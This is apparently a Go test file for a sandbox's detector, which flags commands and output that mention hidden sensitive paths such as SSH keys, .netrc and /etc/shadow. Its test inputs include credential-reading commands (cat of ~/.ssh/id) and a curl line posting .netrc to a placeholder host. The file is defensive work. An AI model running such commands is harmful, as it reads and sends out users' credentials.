package attempts_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/snapfs/snapfs/engine/attempts"
	"github.com/snapfs/snapfs/internal/treetest"
)

// homeWithKeys returns a home directory with the keys that the sandbox hides, and the hidden places.
func homeWithKeys(t *testing.T) (home string, places attempts.Places) {
	t.Helper()
	home = treetest.Dir(t)
	for _, name := range []string{".ssh/id", ".ssh/config", ".netrc", "work/notes", ".sshd/x", "my keys/id"} {
		path := filepath.Join(home, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte("x"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(home+"/.ssh", home+"/work/link"); err != nil {
		t.Fatal(err)
	}
	return home, attempts.PlacesOf([]string{home + "/.netrc", home + "/.ssh", home + "/my keys"}, nil)
}

func TestAHiddenPathThatACommandMentionsIsFound(t *testing.T) {
	home, places := homeWithKeys(t)
	ssh := home + "/.ssh"
	for text, want := range map[string]string{
		"cat|" + ssh + "/id":                              ssh,
		"cat|" + ssh + "/":                                ssh,
		"ls|" + ssh:                                       ssh,
		"sh|-c|cat ~/.ssh/id > out":                       ssh,
		"sh|-c|cat \"$HOME/.ssh/id\"":                     ssh,
		"sh|-c|cat ${HOME}/.ssh/id;true":                  ssh,
		"sh|-c|cat ~/.ssh/*":                              ssh,
		"ssh|-oIdentityFile=" + ssh + "/id|host":          ssh,
		"docker|-v|" + ssh + ":/keys|x":                   ssh,
		"curl|-d|@" + home + "/.netrc|https://x/y":        home + "/.netrc",
		"cat|../.ssh/id":                                  ssh,
		"cat|link/id":                                     "", // no path of a command is looked up
		"cat|" + home + "/work/link/id":                   "",
		"cat|" + home + "/my keys/id":                     home + "/my keys",
		"sh|-c|cat '" + home + "/my keys/id'":             "",  // in a text, a space ends a path
		"cat|" + ssh + "/none":                            ssh, // the answer must not say whether the host has it
		"cat|" + home + "/.sshd/x":                        "",
		"cat|" + home + "/work/notes|--" + ssh:            "",
		"cat|https://host" + ssh + "/id":                  "",
		"cat|x" + ssh + "/id":                             "",
		"sh|-c|cat ~other/.ssh/id":                        "",
		"true|" + strings.Repeat("x", 70<<10) + "|" + ssh: "",
		"":          "",
		"cat||-|.|": "",
	} {
		m := attempts.Mentions{Args: strings.Split(text, "|"), Dir: home + "/work", Home: home}
		got := ""
		if list := m.Hidden(places); len(list) > 0 {
			got = list[0].Place
		}
		if got != want {
			t.Errorf("%.100q mentions the hidden place %q, want %q", text, got, want)
		}
	}
}

func TestAHiddenPathInTheOutputIsFoundOncePerPlace(t *testing.T) {
	home, places := homeWithKeys(t)
	m := attempts.Mentions{
		Args: []string{"make"}, Home: home, Dir: home,
		Output: "cat: " + home + "/.ssh/id: No such file or directory\r\nopen '" + home + "/.ssh/config': x\n" +
			"config: ~/.netrc, /etc/passwd",
	}
	want := []attempts.HiddenPath{{Path: home + "/.ssh/id", Place: home + "/.ssh"}, {Path: home + "/.netrc", Place: home + "/.netrc"}}
	if got := m.Hidden(places); !slices.Equal(got, want) {
		t.Errorf("found %v, want %v", got, want)
	}
	if got := m.Hidden(attempts.Places{}); got != nil {
		t.Errorf("without hidden places, found %v", got)
	}
	m.Home = ""
	if got := m.Hidden(places); len(got) != 1 {
		t.Errorf("without a home directory, found %v", got)
	}
}

func TestPathsOutsideOfADirectoryAreNoticed(t *testing.T) {
	for text, want := range map[string]bool{
		"make|test|-j2|a/b": false, "cat|/w/x": false, "cat|../x": true, "cat|/x": true, "sh|-c|cat ~/x": true, "": false,
	} {
		m := attempts.Mentions{Args: strings.Split(text, "|"), Dir: "/w", Home: "/home"}
		if got := m.Outside("/w"); got != want {
			t.Errorf("%q mentions a path outside of /w: %v, want %v", text, got, want)
		}
	}
}

func TestALinkThatThePolicyHidesIsFollowedOnce(t *testing.T) {
	home := treetest.Dir(t)
	link, target := home+"/link", home+"/real/notes"
	if err := os.MkdirAll(target, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
	places := attempts.PlacesOf([]string{link, target}, []string{link, home + "/exposed"})
	if err := os.RemoveAll(home + "/real"); err != nil { // from now on nothing is looked up
		t.Fatal(err)
	}
	for path, want := range map[string]string{link + "/x": link, target + "/x": link, home + "/real": "", home + "/exposed": ""} {
		got := attempts.Mentions{Args: []string{"cat", path}, Dir: home}.Hidden(places)
		if want == "" && got != nil || want != "" && !slices.Equal(got, []attempts.HiddenPath{{Path: path, Place: want}}) {
			t.Errorf("%s: found %v, want the place %q", path, got, want)
		}
	}
}

// A program that makes accounts fails for /etc/shadow, and may print another path or none.
func TestACommandThatChangesAccountsMentionsTheShadowFile(t *testing.T) {
	places := attempts.PlacesOf([]string{"/etc/gshadow", "/etc/shadow"}, nil)
	for _, m := range []struct {
		attempts.Mentions
		want string
	}{
		{attempts.Mentions{Args: []string{"useradd", "ann"}}, "/etc/shadow"},
		{attempts.Mentions{Args: []string{"sh", "-c", "/usr/sbin/adduser --system ann"}}, "/etc/shadow"},
		{attempts.Mentions{Args: []string{"apt-get", "install", "x"}, Output: "groupadd: cannot open /etc/gshadow\n"}, "/etc/gshadow /etc/shadow"},
		{attempts.Mentions{Args: []string{"sh", "-c", "my-useradd ann; cat passwd.txt"}}, ""},
		{attempts.Mentions{Args: []string{"apt-get", "install", "x"}, Output: "E: Unable to locate package x\n"}, ""},
	} {
		var got []string
		for _, h := range m.Hidden(places) {
			got = append(got, h.Place)
		}
		if strings.Join(got, " ") != m.want || m.Outside("/") != (m.want == "/etc/shadow" || m.want == "/etc/gshadow /etc/shadow") {
			t.Errorf("%q %q: %q, want %q; outside: %v", m.Args, m.Output, got, m.want, m.Outside("/"))
		}
		if got := m.Hidden(attempts.PlacesOf([]string{"/root/.ssh"}, nil)); len(got) > 0 {
			t.Errorf("%q, where the files are exposed: %v", m.Args, got)
		}
	}
}
